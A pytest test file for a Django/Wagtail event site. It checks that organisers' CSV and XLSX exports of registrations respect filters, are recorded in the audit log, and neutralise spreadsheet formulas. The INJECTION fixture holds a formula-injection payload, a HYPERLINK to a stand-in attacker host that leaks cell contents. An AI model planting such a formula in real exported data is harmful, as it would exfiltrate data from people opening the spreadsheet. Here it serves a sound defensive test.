"""Exports of the registrations listing: CSV for French spreadsheet software,
XLSX, no formula smuggled in, and an audit-log entry for each."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from events.registrations.attendance import registration_mark_attendance
from events.registrations.choices import Attendance
from organisers.exports import (
    EXPORT_FIELDS,
    neutralise,
    registrations_csv_lines,
    registrations_xlsx,
)
from organisers.selectors import registrations_for_admin
from tests.events.registrations.factories import build_registration_event, register
from tests.organisers.factories import build_admin_user, build_organiser
from tests.pages import soup

pytestmark = pytest.mark.django_db

INDEX = "registrations_admin:index"
INJECTION = '=HYPERLINK("https://attaquant.example/?x="&A1;"Cliquez")'
COLUMN = {name: number for number, name in enumerate(EXPORT_FIELDS)}


@pytest.fixture
def organiser(home_page):
    return build_organiser()


@pytest.fixture
def registrations(index, event):
    session = event.sessions.first()
    camille = register(
        event,
        email="camille@example.org",
        sessions=[session],
        seats=2,
        companions=["Alex Durand"],
        organisation_name=INJECTION,
        phone="+33 6 12 34 56 78",
        accessibility_needs="Boucle magnétique",
        dietary_needs="Végétarien",
    ).registration
    registration_mark_attendance(registration=camille, attendance=Attendance.PRESENT)
    dominique = register(
        event, email="dominique@example.org", first_name="Dominique"
    ).registration
    other = build_registration_event(index, capacity=30, days=20)
    register(other, email="eli@example.org", first_name="Éli")
    return camille, dominique


def download(client, export_format: str, **filters):
    return client.get(reverse(INDEX), {**filters, "export": export_format})


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content.removeprefix("\ufeff")), delimiter=";"))


def test_the_csv_export_is_the_filtered_listing(
    client, organiser, event, registrations
):
    camille, dominique = registrations
    client.force_login(organiser)

    response = download(client, "csv", event=event.pk, ordering="created_at")

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["Content-Disposition"].endswith('.csv"')
    heading, *rows = csv_rows(response)
    assert len(heading) == len(EXPORT_FIELDS)
    assert [row[COLUMN["email"]] for row in rows] == [camille.email, dominique.email]
    first = rows[0]
    assert first[COLUMN["sessions"]] == event.sessions.first().title
    assert first[COLUMN["seats"]] == "2"
    assert first[COLUMN["companions"]] == "Alex Durand"
    assert first[COLUMN["accessibility_needs"]] == "Boucle magnétique"
    assert first[COLUMN["dietary_needs"]] == "Végétarien"
    assert first[COLUMN["attendance"]] == str(Attendance.PRESENT.label)
    assert first[COLUMN["event"]] == event.title
    # Formulas are inert: a leading apostrophe.
    assert first[COLUMN["organisation_name"]] == f"'{INJECTION}"
    assert first[COLUMN["phone"]] == "'+33 6 12 34 56 78"


def test_the_xlsx_export_is_the_filtered_listing(
    client, organiser, event, registrations
):
    camille, dominique = registrations
    client.force_login(organiser)

    response = download(client, "xlsx", event=event.pk, ordering="created_at")

    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    heading, *rows = sheet.iter_rows()
    assert len(heading) == len(EXPORT_FIELDS)
    assert [row[COLUMN["email"]].value for row in rows] == [
        camille.email,
        dominique.email,
    ]
    first = rows[0]
    assert first[COLUMN["seats"]].value == 2
    assert first[COLUMN["companions"]].value == "Alex Durand"
    assert first[COLUMN["created_at"]].is_date
    # Formulas are inert: text cells, with Excel's quote prefix.
    injected = first[COLUMN["organisation_name"]]
    assert (injected.value, injected.data_type) == (INJECTION, "s")
    assert injected.quotePrefix
    assert not first[COLUMN["email"]].quotePrefix


def test_search_and_filters_apply_to_exports(client, organiser, registrations):
    client.force_login(organiser)

    _heading, *rows = csv_rows(download(client, "csv", q="dominique"))

    assert [row[COLUMN["email"]] for row in rows] == ["dominique@example.org"]


def test_every_export_is_in_the_audit_log(client, organiser, event, registrations):
    client.force_login(organiser)

    csv_rows(download(client, "csv", event=event.pk, status="confirmed"))
    download(client, "xlsx")

    entries = ModelLogEntry.objects.filter(action="registrations.export").order_by(
        "timestamp", "pk"
    )
    assert [(entry.user, entry.data) for entry in entries] == [
        (
            organiser,
            {
                "format": "csv",
                "filters": f"event={event.pk}&status=confirmed",
                "rows": 2,
            },
        ),
        (organiser, {"format": "xlsx", "filters": "", "rows": 3}),
    ]
    # The site history lists them, with the row count.
    client.force_login(build_admin_user("racine", is_superuser=True, two_factor=True))
    history = client.get(
        reverse("wagtailadmin_reports:site_history"),
        {"action": "registrations.export"},
    )
    rows = soup(history).select("table.listing tbody tr")
    assert len(rows) == 2
    assert f"event={event.pk}&status=confirmed" in rows[-1].get_text()


def test_the_plain_functions_write_the_same_files(registrations):
    queryset = registrations_for_admin().order_by("created_at")

    lines = list(registrations_csv_lines(queryset))
    stream = io.BytesIO()
    registrations_xlsx(queryset, stream)

    assert lines[0].startswith("\ufeff")
    assert len(lines) == 4
    sheet = load_workbook(stream).active
    assert sheet.max_row == 4
    assert sheet.max_column == len(EXPORT_FIELDS)


@pytest.mark.parametrize(
    "text,expected",
    [
        ("=1+1", "'=1+1"),
        ("+33", "'+33"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("La Ruche", "La Ruche"),
        ("", ""),
    ],
)
def test_neutralise(text, expected):
    assert neutralise(text) == expected
